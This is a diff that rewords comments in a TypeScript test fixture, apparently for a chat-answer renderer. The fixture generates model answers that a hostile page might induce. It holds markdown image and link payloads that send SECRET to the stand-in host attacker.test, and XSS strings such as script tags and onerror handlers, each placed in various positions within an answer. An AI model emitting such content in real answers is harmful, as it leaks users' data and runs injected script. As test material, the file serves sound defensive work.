@@ -1,14 +1,14 @@
 /**
- * Answers as a hostile page would have them: everything known to make a careless renderer ask for something, run something or
- * show a link that does, in every place an answer has. Each kind stands in each carrier.
+ * Answers as a hostile page could cause them: everything known to make a careless renderer send a request, run a script or show a
+ * link that does, in every position of an answer.
  */
 
-/** Where requests go; nothing in these answers may ever ask for it. */
+/** The target of the requests. Nothing in these answers may ever request it. */
 export const ATTACKER = 'attacker.test';
 
 const URL = `https://${ATTACKER}/p?d=SECRET`;
 
-/** What asks for something by itself when it is shown. */
+/** Content that causes a request when it is rendered. */
 const REQUESTS: Record<string, string> = {
   image: `![x](${URL})`,
   'image-angle': `![x](<${URL} with space>)`,
@@ -47,7 +47,7 @@ const REQUESTS: Record<string, string> = {
   'math-image': `$\\includegraphics{${URL}}$`,
 };
 
-/** What runs something, or is a link that does. */
+/** Content that runs a script, or a link that does. */
 const SCRIPTS: Record<string, string> = {
   script: '<script>alert(1)</script>',
   'img-onerror': '<img src=x onerror=alert(1)>',
@@ -90,7 +90,7 @@ const SCRIPTS: Record<string, string> = {
   'attribute-break': '![" onerror="alert(1)](x)',
 };
 
-/** Whole blocks, which stand in no other carrier. */
+/** Whole blocks, which fit into no carrier. */
 const BLOCKS: Record<string, string> = {
   'image-reference': `![x][r]\n\n[r]: ${URL}`,
   'image-shortcut': `![r]\n\n[r]: <${URL}> 'logo'`,
@@ -107,7 +107,7 @@ const BLOCKS: Record<string, string> = {
   processing: '<?x ?><img src=x onerror=alert(1)>',
 };
 
-/** Where it stands. None of these may change what becomes of it. */
+/** The positions in an answer. None may make the content effective. */
 const CARRIERS: Record<string, (text: string) => string> = {
   alone: (text) => text,
   'in a sentence': (text) => `The tide **rises** ${text} twice a day.`,
@@ -121,7 +121,7 @@ const CARRIERS: Record<string, (text: string) => string> = {
 
 export type HostileAnswer = { id: string; text: string; kind: 'request' | 'script' | 'block' };
 
-/** All of them, in an order that stays. */
+/** All of them, in a stable order. */
 export function hostileAnswers(): HostileAnswer[] {
   const carried = (kind: 'request' | 'script', texts: Record<string, string>) =>
     Object.entries(texts).flatMap(([name, text]) =>
